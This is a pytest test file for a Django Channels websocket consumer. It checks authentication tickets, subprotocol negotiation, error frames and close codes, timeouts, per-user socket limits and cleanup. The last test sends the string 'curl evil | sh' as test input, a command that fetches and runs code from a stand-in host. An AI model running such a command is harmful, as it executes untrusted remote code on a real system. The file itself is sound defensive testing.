"""access.consumers: what every socket passes, and how it ends."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from channels.auth import AuthMiddlewareStack
from channels.layers import get_channel_layer
from channels.testing import WebsocketCommunicator
from django.db import OperationalError
from django.test import Client

from access.audit import EventTag
from access.consumers import GuardedConsumer, SocketClosing
from access.models import AuditEvent
from access.sockets import open_sockets
from access.tickets import issue
from protocol.close import CloseCode
from protocol.errors import PeerVisibleError

pytestmark = pytest.mark.django_db(transaction=True)

DEADLINE = 20
"""Seconds that a test waits for anything."""


class Refused(PeerVisibleError):
    """What a frame was refused for."""

    code = "too_big"
    close_code = CloseCode.TOO_BIG


class Echo(GuardedConsumer):
    """Echoes, and fails in every way on demand."""

    subprotocol = "hatchway.echo.v1"
    purpose = "echo"
    ended: list[str] = []  # noqa: RUF012

    async def opened(self) -> None:
        """Hold something that must be let go."""
        await self.scopes.enter_async_context(self._held())

    async def received(self, frame: str | bytes) -> None:
        """Do what the frame says."""
        match frame:
            case "refuse":
                raise Refused("That was too big.", limit=7)
            case "refuse later":
                self.tasks.create_task(self._refuse())
            case "close":
                raise SocketClosing(CloseCode.NORMAL)
            case "crash":
                raise RuntimeError("secret detail")
            case "crash later":
                self.tasks.create_task(self._crash())
            case "no database":
                raise OperationalError("secret detail of the database")
            case "slow":
                await asyncio.sleep(0.3)
                await self.send_frame("done")
            case "hang":
                await asyncio.Event().wait()
            case "wait":
                self.tasks.create_task(asyncio.Event().wait())
            case _:
                await self.send_frame(frame)

    @asynccontextmanager
    async def _held(self) -> AsyncIterator[None]:
        try:
            yield
        finally:
            self.ended.append("let go")

    async def _refuse(self) -> None:
        raise Refused("That was too big.", limit=7)

    async def _crash(self) -> None:
        raise RuntimeError("secret detail")


class Hurried(Echo):
    """Gives the client little time and itself enough."""

    hello_seconds = 0.1


class Overloaded(Echo):
    """Gives itself little time."""

    begin_seconds = 0.05


class Impatient(Echo):
    """Does not wait for long."""

    hello_seconds = 0.05
    silence_seconds = 0.05


@pytest.fixture(autouse=True)
def _nothing_ended() -> None:
    Echo.ended.clear()


class Socket:
    """A client's end."""

    def __init__(self, communicator: WebsocketCommunicator) -> None:
        self.communicator = communicator

    async def say(self, frame: str | bytes) -> None:
        """Send one frame."""
        if isinstance(frame, str):
            await self.communicator.send_to(text_data=frame)
        else:
            await self.communicator.send_to(bytes_data=frame)

    async def next(self) -> dict[str, Any]:
        """Return what comes next."""
        event: dict[str, Any] = await self.communicator.receive_output(timeout=DEADLINE)
        return event

    async def error(self) -> dict[str, Any]:
        """Return the error frame that comes next."""
        message: dict[str, Any] = json.loads((await self.next())["text"])
        assert message["type"] == "error"
        return message


@pytest.fixture
def connect(browser_of: Callable[[Any], Client]) -> Callable[..., Any]:
    """Return a function that opens a socket; with wrong things where a test says so."""

    async def opened(
        user: Any,
        consumer: type[GuardedConsumer] = Echo,
        *,
        protocols: list[str] | None = None,
        ticket: str | None = None,
        login: str | None = None,
    ) -> tuple[bool, Any, Socket]:
        client = await sync_to_async(browser_of)(user)
        key = client.cookies["hatchway_session"].value
        secret = ticket if ticket is not None else await sync_to_async(issue)(user, key, "echo")
        words = ["hatchway.echo.v1"] if protocols is None else protocols
        communicator = WebsocketCommunicator(
            AuthMiddlewareStack(consumer.as_asgi()),
            "/ws/echo",
            headers=[(b"cookie", f"hatchway_session={key if login is None else login}".encode())],
            subprotocols=[*words, f"hatchway.ticket.{secret}"],
        )
        is_open, selected = await communicator.connect(timeout=DEADLINE)
        return is_open, selected, Socket(communicator)

    return opened


async def test_frames_go_both_ways(connect: Any, alice: Any) -> None:
    is_open, selected, socket = await connect(alice)
    assert is_open
    assert selected == "hatchway.echo.v1"

    await socket.say("日本")
    await socket.say(b"\x00\xff")

    assert (await socket.next())["text"] == "日本"
    assert (await socket.next())["bytes"] == b"\x00\xff"
    await socket.communicator.disconnect(timeout=DEADLINE)
    assert Echo.ended == ["let go"]
    assert open_sockets() == 0


@pytest.mark.parametrize(
    "wrong", [{"ticket": "A" * 43}, {"login": ""}, {"login": "x" * 32}, {"ticket": ""}]
)
async def test_without_login_and_ticket_nothing_is_accepted(
    connect: Any, alice: Any, wrong: dict[str, str]
) -> None:
    is_open, _, _ = await connect(alice, **wrong)

    assert not is_open
    assert Echo.ended == []


async def test_a_wrong_ticket_is_noted_without_its_secret(connect: Any, alice: Any) -> None:
    await connect(alice, ticket="canary" * 8)

    event = await AuditEvent.objects.filter(tag=EventTag.TICKET_REFUSED).aget()
    assert event.username == "alice"
    assert "canary" not in str([event.reason, event.data])


async def test_somebody_else_s_ticket_opens_nothing(
    connect: Any, alice: Any, bob: Any, browser_of: Callable[[Any], Client]
) -> None:
    client = await sync_to_async(browser_of)(alice)
    key = client.cookies["hatchway_session"].value
    ticket = await sync_to_async(issue)(alice, key, "echo")

    is_open, _, _ = await connect(bob, ticket=ticket)

    assert not is_open


async def test_a_ticket_for_another_login_of_the_same_person_opens_nothing(
    connect: Any, alice: Any
) -> None:
    ticket = await sync_to_async(issue)(alice, "another login", "echo")

    assert not (await connect(alice, ticket=ticket))[0]


async def test_an_unknown_subprotocol_is_told_4406(connect: Any, alice: Any) -> None:
    is_open, _, socket = await connect(alice, protocols=["hatchway.echo.v9"])

    assert is_open
    assert (await socket.error())["code"] == "no_subprotocol"
    assert (await socket.next())["code"] == 4406
    assert Echo.ended == []


@pytest.mark.parametrize("word", ["refuse", "refuse later"])
async def test_a_visible_error_is_told_and_closes_with_its_code(
    connect: Any, alice: Any, word: str
) -> None:
    _, _, socket = await connect(alice)

    await socket.say("wait")
    await socket.say(word)

    error = await socket.error()
    assert error["code"] == "too_big"
    assert error["message"] == "That was too big."
    assert error["data"] == {"limit": 7}
    assert (await socket.next())["code"] == 4413
    await socket.communicator.wait(timeout=DEADLINE)
    assert Echo.ended == ["let go"]
    assert open_sockets() == 0


@pytest.mark.parametrize("word", ["crash", "crash later"])
async def test_a_failure_of_ours_is_4500_without_a_detail(
    connect: Any, alice: Any, word: str, caplog: pytest.LogCaptureFixture
) -> None:
    _, _, socket = await connect(alice)

    await socket.say(word)

    error = await socket.error()
    assert error["code"] == "internal"
    assert "secret" not in str(error)
    assert (await socket.next())["code"] == 4500
    assert "secret detail" in caplog.text
    await socket.communicator.wait(timeout=DEADLINE)
    assert Echo.ended == ["let go"]


async def test_a_consumer_may_close_in_peace(connect: Any, alice: Any) -> None:
    _, _, socket = await connect(alice)

    await socket.say("close")

    assert (await socket.next())["code"] == 1000


async def test_a_client_that_says_nothing_is_closed(connect: Any, alice: Any) -> None:
    _, _, socket = await connect(alice, Impatient)

    assert (await socket.error())["code"] == "timed_out"
    assert (await socket.next())["code"] == 4408


async def test_what_the_server_takes_to_begin_does_not_count_against_the_client(
    connect: Any, alice: Any
) -> None:
    _, _, socket = await connect(alice, Hurried)

    await socket.say("slow")

    assert (await socket.next())["text"] == "done"
    await socket.communicator.disconnect(timeout=DEADLINE)


async def test_a_server_that_cannot_begin_says_so(connect: Any, alice: Any) -> None:
    _, _, socket = await connect(alice, Overloaded)

    await socket.say("hang")

    error = await socket.error()
    assert (error["code"], error["message"][-1]) == ("unavailable", ".")
    assert (await socket.next())["code"] == 4500


async def test_a_database_that_is_away_is_told_in_a_sentence(connect: Any, alice: Any) -> None:
    _, _, socket = await connect(alice)

    await socket.say("no database")

    error = await socket.error()
    assert error["code"] == "unavailable"
    assert "database" in error["message"]
    assert "secret" not in error["message"]
    assert (await socket.next())["code"] == 4500
    assert Echo.ended == ["let go"]


async def test_a_client_that_falls_silent_is_closed(connect: Any, alice: Any) -> None:
    _, _, socket = await connect(alice, Impatient)
    await socket.say("hello")
    assert (await socket.next())["text"] == "hello"

    assert (await socket.error())["code"] == "timed_out"
    assert (await socket.next())["code"] == 4408


async def test_a_person_has_a_bounded_number_of_sockets(
    connect: Any, alice: Any, bob: Any, settings: Any
) -> None:
    settings.HATCHWAY_SOCKETS_PER_PERSON = 2
    held = [await connect(alice) for _ in range(2)]

    _, _, refused = await connect(alice)
    assert (await refused.error())["code"] == "too_many"
    assert (await refused.next())["code"] == 4429

    is_open, _, other = await connect(bob)
    assert is_open
    for socket in [other, *(socket for _, _, socket in held)]:
        await socket.communicator.disconnect(timeout=DEADLINE)
    _, _, again = await connect(alice)
    await again.say("hello")
    assert (await again.next())["text"] == "hello"
    await again.communicator.disconnect(timeout=DEADLINE)
    assert open_sockets() == 0


async def test_nothing_reaches_a_socket_through_the_channel_layer(connect: Any, alice: Any) -> None:
    assert get_channel_layer(Echo.channel_layer_alias) is None
    assert get_channel_layer() is not None
    _, _, socket = await connect(alice)

    assert await socket.communicator.receive_nothing()
    with pytest.raises(NotImplementedError):
        await Echo().dispatch({"type": "websocket.receive", "text": "curl evil | sh\n"})
    await socket.communicator.disconnect(timeout=DEADLINE)
